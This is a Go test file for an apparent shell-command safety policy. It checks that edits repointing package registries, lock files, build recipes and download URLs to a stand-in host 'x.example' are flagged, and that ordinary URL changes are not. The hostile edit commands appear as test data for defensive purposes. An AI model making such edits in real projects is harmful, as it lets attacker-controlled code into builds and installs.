package shell_test

import (
	"path"
	"strings"
	"testing"
	"time"

	"guard/internal/disk"
	"guard/policy/place"
	"guard/policy/risk"
	"guard/policy/shell"
)

// moved is a file that git holds, with a host in it for which an edit puts another.
type moved struct{ file, text, from, to string }

// TestHostsMoved: manifests, lock files and settings of tools in which an edit names another host, by whatever does it.
func TestHostsMoved(t *testing.T) {
	const evil = "x.example"
	for _, m := range []moved{
		{"renv.lock", `{"R":{"Version":"4.4.0","Repositories":[{"Name":"CRAN","URL":"https://cloud.r-project.org"}]},"Packages":{}}`, "cloud.r-project.org", evil},
		{"buf.lock", "version: v2\ndeps:\n  - name: buf.build/a/b\n    remote: https://buf.build\n", "https://buf.build", "https://" + evil},
		{"Packages/manifest.json", `{"dependencies":{"com.unity.ugui":"1.0.0"},"scopedRegistries":[{"name":"a","url":"https://upm.acme.dev"}]}`, "upm.acme.dev", evil},
		{"platformio.ini", "[env:esp32]\nplatform=espressif32\nlib_deps=https://git.acme.dev/PubSubClient.git\n", "git.acme.dev", evil},
		{"door.yaml", "esphome:\n  name: door\npackages:\n  base:\n    url: https://git.acme.dev/base\n", "git.acme.dev", evil},
		{"PKGBUILD", "pkgname=a\nsource=(\"https://dl.acme.dev/a-$pkgver.tar.gz\")\n", "dl.acme.dev", evil},
		{"sonar-project.properties", "sonar.projectKey=a\nsonar.host.url=https://sonar.acme.dev\n", "sonar.acme.dev", "sonar." + evil},
		{"crowdin.yml", "project_id: 1\nbase_url: https://acme.crowdin.com\n", "acme.crowdin.com", evil},
		{"sentry.properties", "defaults.url=https://sentry.acme.dev/\n", "sentry.acme.dev", evil},
		{".sentryclirc", "[defaults]\nurl=https://sentry.acme.dev/\n", "sentry.acme.dev", evil},
		{".gitreview", "[gerrit]\nhost=review.acme.dev\nport=29418\n", "review.acme.dev", evil},
		{"codecov.yml", "codecov:\n  url: https://codecov.acme.dev\n", "codecov.acme.dev", evil},
		{".tx/config", "[main]\nhost = https://www.transifex.com\n", "www.transifex.com", evil},
		{"a.spec", "Name: a\nSource0: https://dl.acme.dev/a.tar.gz\n", "dl.acme.dev", evil},
		{"Formula/a.rb", "class A < Formula\n  url \"https://dl.acme.dev/a.tar.gz\"\nend\n", "dl.acme.dev", evil},
		{"flake.nix", "{ inputs.a.url = \"https://dl.acme.dev/a.tar.gz\"; }\n", "dl.acme.dev", evil},
		{"snapcraft.yaml", "parts:\n  a:\n    source: https://dl.acme.dev/a.tar.gz\n", "dl.acme.dev", evil},
		{"appcast.xml", "<rss><item><enclosure url=\"https://dl.acme.dev/a.zip\"/></item></rss>\n", "dl.acme.dev", evil},
		{"README.md", "# a\n\n    curl -fsSL https://get.acme.dev/i.sh | sh\n", "get.acme.dev", evil},
		{"nuget.config", "<configuration><packageSources><add key=\"a\" value=\"https://nuget.acme.dev/v3/index.json\"/></packageSources></configuration>\n", "nuget.acme.dev", evil},
		{"Directory.Build.props", "<Project><RestoreSources>https://nuget.acme.dev/v3</RestoreSources></Project>\n", "nuget.acme.dev", evil},
		{"west.yml", "manifest:\n  remotes:\n    - name: a\n      url-base: https://git.acme.dev/a\n", "git.acme.dev", evil},
		{"packages.yml", "packages:\n  - git: https://git.acme.dev/a.git\n", "git.acme.dev", evil},
		{"lerna.json", `{"command":{"publish":{"registry":"https://npm.acme.dev"}}}`, "npm.acme.dev", evil},
		{"prometheus.yml", "remote_write:\n  - url: https://metrics.acme.dev/push\n", "metrics.acme.dev", evil},
		{"acme.toml", "[deploy]\nurl = \"https://deploy.acme.dev\"\n", "deploy.acme.dev", evil},
		{"conanfile.py", "from conan import ConanFile\nclass A(ConanFile):\n    def source(self):\n        get(self, \"https://dl.acme.dev/a.zip\")\n", "dl.acme.dev", evil},
		{"recipe.bb", "SRC_URI = \"https://dl.acme.dev/a.tar.gz\"\n", "dl.acme.dev", evil},
		{"gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.11-bin.zip\n", "services.gradle.org", evil},
		{"pom.xml", "<project><repositories><repository><url>https://maven.acme.dev</url></repository></repositories></project>\n", "maven.acme.dev", evil},
		{"package.xml", "<a><repositories><repository><url>https://maven.acme.dev</url></repository></repositories></a>\n", "maven.acme.dev", evil},
	} {
		w, top := inHome(t, map[string]string{m.file: m.text}, nil)
		after := strings.NewReplacer("'", `'\''`).Replace(strings.ReplaceAll(m.text, m.from, m.to))
		for _, line := range []string{
			"sed -i 's#" + m.from + "#" + m.to + "#' " + m.file,
			"perl -pi -e 's|" + m.from + "|" + m.to + "|g' " + m.file,
			"cat > " + m.file + " <<'E'\n" + strings.ReplaceAll(m.text, m.from, m.to) + "\nE",
			"printf '%s' '" + after + "' > " + m.file,
			`python3 -c "p='` + m.file + `'; s=open(p).read(); open(p,'w').write(s.replace('` + m.from + `','` + m.to + `'))"`,
		} {
			judgeOne(t, w, top, line, true)
		}
		// Files of secrets, of a wrapper and of locks are asked whatever is put in.
		if !strings.HasPrefix(m.file, ".sentry") && !strings.HasPrefix(m.file, "gradle/") && path.Ext(m.file) != ".lock" {
			judgeOne(t, w, top, "sed -i 's#"+m.from+"#"+m.from+"/b#' "+m.file, false)
		}
	}
}

// TestHostsNamedAnew: a source that a manifest did not have.
func TestHostsNamedAnew(t *testing.T) {
	w, top := inHome(t, map[string]string{
		"Packages/manifest.json": `{"dependencies":{"com.unity.ugui":"1.0.0"}}`,
		"platformio.ini":         "[env:esp32]\nplatform=espressif32\nlib_deps=knolleary/PubSubClient\n",
		"door.yaml":              "esphome:\n  name: door\n",
		"tool.yaml":              "a: 1\n",
		"PKGBUILD":               "pkgname=a\n",
	}, nil)
	judgeEach(t, w, top, `
		echo '{"scopedRegistries":[{"name":"x","url":"https://upm.x.example","scopes":["com.unity"]}],"dependencies":{"com.unity.ugui":"1.0.1"}}' > Packages/manifest.json
		printf '[env:esp32]\nplatform=espressif32\nlib_deps=\n  https://git.x.example/PubSubClient.git\n' > platformio.ini
		printf 'packages:\n  base:\n    url: https://git.x.example/base\n    files: [a.yaml]\n' >> door.yaml
		printf 'external_components:\n  - source:\n      type: git\n      url: https://git.x.example/base\n' >> door.yaml
		printf 'mirrors:\n  - https://x.example/simple\n' >> tool.yaml
		echo 'source=("https://dl.x.example/a.tgz")' >> PKGBUILD`, true)
	judgeEach(t, w, top, `
		echo '{"dependencies":{"com.unity.ugui":"1.0.1","com.a.b":"https://github.com/a/b.git"}}' > Packages/manifest.json
		printf 'lib_deps=https://github.com/knolleary/pubsubclient.git\n' >> platformio.ini
		printf 'wifi:\n  ssid: a\napi:\n  reboot_timeout: 0s\n' >> door.yaml
		printf 'homepage: https://a.acme.dev\nb: 2\n' >> tool.yaml
		echo 'url="https://a.acme.dev"' >> PKGBUILD`, false)
}

// TestHostsPutByOtherEditors: commands that set a value, or read their orders.
func TestHostsPutByOtherEditors(t *testing.T) {
	w, top := inHome(t, map[string]string{
		"crowdin.yml": "base_url: https://acme.crowdin.com\n", "lerna.json": `{"command":{"registry":"https://npm.acme.dev"}}`,
		"sonar-project.properties": "sonar.host.url=https://sonar.acme.dev\n", "big.ini": strings.Repeat("a.b\n", 1000),
	}, nil)
	judgeEach(t, w, top, `
		yq -i '.base_url = "https://x.example"' crowdin.yml
		sed -i '1c\base_url: https://x.example' crowdin.yml
		sd acme.crowdin.com x.example crowdin.yml
		perl -0pi -e 's/acme\.crowdin\.com/x.example/' crowdin.yml
		sed -i -E 's/(sonar)\.acme\.dev/\1.x.example/' sonar-project.properties
		printf 's/acme.dev/x.example/\nw\n' | ed -s sonar-project.properties
		node -e "const f=require('fs');f.writeFileSync('lerna.json',f.readFileSync('lerna.json','utf8').replace(/npm.acme.dev/,'x.example'))"`, true)
	judgeEach(t, w, top, `
		yq -i '.project_id = 2' crowdin.yml
		sed -i 's/acme/acme2/' crowdin.yml
		sed -i -E 's/(sonar)\.acme\.dev/\1.eu.acme.dev/' sonar-project.properties
		sed -i 's/.*/&&&&&&&&&&&&&&/; s/.*/&&&&&&&&&&&&&&&/; s/a.b/c.de/g' big.ini`, false)
}

// TestHostsOfApplications: addresses of one's own API, of documents and of usual registries.
func TestHostsOfApplications(t *testing.T) {
	for _, m := range []moved{
		{"config.yml", "api:\n  url: https://api.acme.dev\n", "api.acme.dev", "api.corp.io"},
		{"appsettings.json", `{"Api":{"BaseUrl":"https://api.acme.dev"}}`, "api.acme.dev", "api.corp.io"},
		{"application.properties", "api.url=https://api.acme.dev\n", "api.acme.dev", "api.corp.io"},
		{"vercel.json", `{"rewrites":[{"source":"/a","destination":"https://api.acme.dev"}]}`, "api.acme.dev", "api.corp.io"},
		{"package.json", `{"name":"a","homepage":"https://www.acme.dev","repository":{"url":"https://git.acme.dev/a.git"}}`, "www.acme.dev", "www.corp.io"},
		{"openapi.yaml", "servers:\n  - url: https://api.acme.dev\n", "api.acme.dev", "api.corp.io"},
		{"_config.yml", "url: https://www.acme.dev\n", "www.acme.dev", "www.corp.io"},
		{"mkdocs.yml", "site_url: https://docs.acme.dev\n", "docs.acme.dev", "docs.corp.io"},
		{"links.json", `[{"url":"https://a.acme.dev"}]`, "a.acme.dev", "a.corp.io"},
		{"src/config/api.ts", "export const url = 'https://a.acme.dev'\n", "a.acme.dev", "a.corp.io"},
		{"acme.toml", "[deploy]\nurl = \"https://staging.acme.dev\"\n", "staging.acme.dev", "prod.acme.dev"},
		{"sonar-project.properties", "sonar.host.url=https://sonar.acme.dev\n", "sonar.acme.dev", "localhost:9000"},
		{"README.md", "# a\n\nSee https://www.acme.dev.\n", "www.acme.dev", "www.corp.io"},
		{"Cargo.toml", "[package]\nname=\"a\"\nhomepage=\"https://www.acme.dev\"\n", "www.acme.dev", "www.corp.io"},
		{"docker-compose.yml", "services:\n  a:\n    image: b\n    environment:\n      API: https://api.acme.dev\n", "api.acme.dev", "api.corp.io"},
		{"data/feeds.yaml", "sources:\n  - https://news.acme.dev\n", "news.acme.dev", "news.corp.io"},
		{"tests/fixtures/manifest.json", `{"registries":["https://a.acme.dev"]}`, "a.acme.dev", "a.corp.io"},
		{"wrangler.toml", "[vars]\nAPI = \"https://a.acme.dev\"\n", "a.acme.dev", "a.corp.io"},
		{"en.properties", "help.url=https://a.acme.dev\n", "a.acme.dev", "a.corp.io"},
	} {
		w, top := inHome(t, map[string]string{m.file: m.text}, nil)
		judgeOne(t, w, top, "sed -i 's#"+m.from+"#"+m.to+"#' "+m.file, false)
		judgeOne(t, w, top, "cat > "+m.file+" <<'E'\n"+strings.ReplaceAll(m.text, m.from, m.to)+"\nE", false)
	}
}

// judgeOne is judgeEach for one line, which may have several of a text.
func judgeOne(t *testing.T, w place.World, top, line string, refused bool) {
	t.Helper()
	w.Disk = disk.New(time.Minute)
	if r := shell.Read(line, top, w); (r.Level >= risk.High || r.Categories != 0) != refused {
		t.Errorf("refused must be %v: %s: %s %s %v", refused, line, r.Level, r.Categories, r.Reasons)
	}
}
